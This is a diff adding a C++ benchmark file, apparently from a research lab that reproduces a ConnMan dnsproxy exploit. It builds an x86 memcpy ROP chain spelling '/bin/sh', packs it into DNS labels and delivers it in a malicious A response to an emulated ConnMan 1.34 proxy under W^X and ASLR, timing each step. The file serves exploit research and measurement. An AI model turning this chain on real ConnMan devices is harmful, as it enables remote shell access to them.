@@ -1,0 +1,120 @@
+// E5 — the x86 memcpy ROP chain (Listings 3 & 4): per-character chain cost
+// and the string-length sweep (x86 has no clobber, so long chains work).
+// Timing: build + delivery per string length.
+#include <benchmark/benchmark.h>
+
+#include <cstdio>
+#include <cstring>
+
+#include "src/connman/dnsproxy.hpp"
+#include "src/dns/craft.hpp"
+#include "src/exploit/profile.hpp"
+#include "src/exploit/rop_x86.hpp"
+#include "src/loader/boot.hpp"
+
+using namespace connlab;
+
+namespace {
+
+exploit::TargetProfile Profile() {
+  static exploit::TargetProfile cached = [] {
+    auto sys =
+        loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::WxAslr(), 100)
+            .value();
+    connman::DnsProxy proxy(*sys, connman::Version::k134);
+    exploit::ProfileExtractor extractor(*sys, proxy);
+    return extractor.Extract().value();
+  }();
+  return cached;
+}
+
+connman::ProxyOutcome Fire(const dns::PayloadImage& image) {
+  auto sys =
+      loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::WxAslr(), 4242)
+          .value();
+  connman::DnsProxy proxy(*sys, connman::Version::k134);
+  dns::Message query = dns::Message::Query(0x7E57, "victim.example");
+  (void)proxy.AcceptClientQuery(dns::Encode(query).value());
+  auto labels = dns::CutIntoLabels(image).value();
+  auto evil = dns::MaliciousAResponse(query, labels);
+  return proxy.HandleServerResponse(dns::Encode(evil).value());
+}
+
+void PrintStringSweep() {
+  exploit::TargetProfile profile = Profile();
+  std::printf("== E5: x86 memcpy-chain string sweep (paper §III-C1) ==\n");
+  std::printf("%-10s %8s %8s %8s  %s\n", "string", "memcpys", "bytes",
+              "labels", "outcome");
+  std::printf("%s\n", std::string(60, '-').c_str());
+  for (const char* s : {"sh", "/bin/sh", "/bin/bash"}) {
+    auto image = exploit::BuildRopX86(profile, s);
+    if (!image.ok()) {
+      std::printf("%-10s %8zu %8s %8s  build failed: %s\n", s, strlen(s), "-",
+                  "-", image.status().message().c_str());
+      continue;
+    }
+    auto labels = dns::CutIntoLabels(image.value());
+    auto outcome = Fire(image.value());
+    std::printf("%-10s %8zu %8zu %8zu  %s\n", s, strlen(s),
+                image.value().size(),
+                labels.ok() ? labels.value().size() : 0,
+                outcome.ToString().c_str());
+  }
+  std::printf("\nExpected shape: every \"/bin/sh\"-buildable length works on\n"
+              "x86 (no chain clobber there). \"/bin/bash\" fails at build\n"
+              "time: the extracted profile only maps source addresses for\n"
+              "the characters of \"/bin/sh\" — the --memstr step constrains\n"
+              "what strings a chain can spell, exactly as in real exploits.\n\n");
+}
+
+void BM_BuildX86Chain(benchmark::State& state) {
+  exploit::TargetProfile profile = Profile();
+  const std::string str(static_cast<std::size_t>(state.range(0)), 's');
+  for (auto _ : state) {
+    auto image = exploit::BuildRopX86(profile, str);
+    benchmark::DoNotOptimize(image);
+  }
+  state.SetItemsProcessed(state.iterations());
+}
+BENCHMARK(BM_BuildX86Chain)->Arg(2)->Arg(7)->Arg(16);
+
+void BM_DeliverX86Chain(benchmark::State& state) {
+  exploit::TargetProfile profile = Profile();
+  auto image = exploit::BuildRopX86(profile, "/bin/sh").value();
+  auto labels = dns::CutIntoLabels(image).value();
+  auto sys =
+      loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::WxAslr(), 4242)
+          .value();
+  connman::DnsProxy proxy(*sys, connman::Version::k134);
+  std::uint16_t id = 1;
+  for (auto _ : state) {
+    dns::Message query = dns::Message::Query(id++, "victim.example");
+    (void)proxy.AcceptClientQuery(dns::Encode(query).value());
+    auto evil = dns::MaliciousAResponse(query, labels);
+    auto outcome = proxy.HandleServerResponse(dns::Encode(evil).value());
+    benchmark::DoNotOptimize(outcome);
+  }
+  state.SetItemsProcessed(state.iterations());
+}
+BENCHMARK(BM_DeliverX86Chain);
+
+void BM_CutterOnChainImage(benchmark::State& state) {
+  exploit::TargetProfile profile = Profile();
+  auto image = exploit::BuildRopX86(profile, "/bin/sh").value();
+  for (auto _ : state) {
+    auto labels = dns::CutIntoLabels(image);
+    benchmark::DoNotOptimize(labels);
+  }
+  state.SetItemsProcessed(state.iterations());
+}
+BENCHMARK(BM_CutterOnChainImage);
+
+}  // namespace
+
+int main(int argc, char** argv) {
+  PrintStringSweep();
+  benchmark::Initialize(&argc, argv);
+  benchmark::RunSpecifiedBenchmarks();
+  benchmark::Shutdown();
+  return 0;
+}
